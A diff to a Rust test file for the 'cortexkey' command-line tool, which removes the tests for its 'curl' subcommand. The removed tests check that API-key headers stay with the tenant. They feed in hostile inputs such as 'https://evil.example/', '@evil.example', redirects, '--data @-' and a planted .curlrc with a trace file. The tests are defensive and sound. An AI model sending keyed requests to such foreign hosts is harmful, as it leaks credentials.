@@ -1,4 +1,4 @@
-//! `cortexkey curl` and what `cortexkey examples` prints, run against a tenant.
+//! What `cortexkey examples` prints, run against a tenant.
 
 #![allow(clippy::print_stdout, reason = "what is skipped is said")]
 
@@ -79,59 +79,5 @@ fn the_example_in_go_works() {
     for level in ["standard", "advanced"] {
         let ran = run(&tenant, level, &mut Command::new(folder.path().join("example")));
         assert_eq!((ran.code, ran.stdout.trim()), (0, "\"true\""), "{ran:?}");
-    }
-}
-
-#[test]
-fn curl_runs_with_the_headers_of_both_levels() {
-    let tenant = Tenant::start();
-    for level in ["standard", "advanced"] {
-        for arguments in [
-            &["curl", "--", "/api_keys/validate/", "-d", "{}"][..],
-            &["curl", "--", &format!("{}/api_keys/validate/", tenant.url()), "-s", "-d", "{}"],
-            &["curl", "/public_api/v1/healthcheck", "--silent", "--fail"],
-        ] {
-            let ran = finish(&mut tenant.with_key(level, arguments));
-            assert_eq!(ran.code, 0, "{ran:?}");
-            assert!(ran.stdout.contains("true") || ran.stdout.contains("available"), "{ran:?}");
-        }
-        let refused = finish(&mut tenant.with_key(level, &["curl", "/nowhere", "-s", "--fail"]));
-        assert_eq!(refused.code, 1);
-        assert!(refused.stderr.contains("curl ended with 22"), "{refused:?}");
-    }
-}
-
-#[test]
-fn a_curlrc_gets_no_headers() {
-    let tenant = Tenant::start();
-    let home = tempfile::tempdir().unwrap();
-    let trace = home.path().join("trace");
-    let other = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
-    other.set_nonblocking(true).unwrap();
-    let rc = format!(
-        "url = http://{}/\ntrace-ascii = {}\n",
-        other.local_addr().unwrap(),
-        trace.display()
-    );
-    fs::write(home.path().join(".curlrc"), rc).unwrap();
-    let mut curl = tenant.with_key("advanced", &["curl", "--", "/api_keys/validate/", "-d", "{}"]);
-    let ran = finish(curl.env("HOME", home.path()));
-    assert_eq!(ran.code, 0, "{ran:?}");
-    assert!(!trace.exists() && other.accept().is_err());
-}
-
-#[test]
-fn curl_goes_nowhere_else() {
-    let tenant = Tenant::start();
-    for arguments in [
-        &["curl", "--", "https://evil.example/"][..],
-        &["curl", "--", "/x", "https://evil.example/"],
-        &["curl", "--", "/x", "--silent", "evil.example"],
-        &["curl", "--", "/x", "-L"],
-        &["curl", "--", "@evil.example"],
-        &["curl", "--", "/x", "--data", "@-"],
-    ] {
-        let ran = finish(&mut tenant.with_key("advanced", arguments));
-        assert_eq!((ran.code, ran.stdout.as_str()), (2, ""), "{ran:?}");
     }
 }
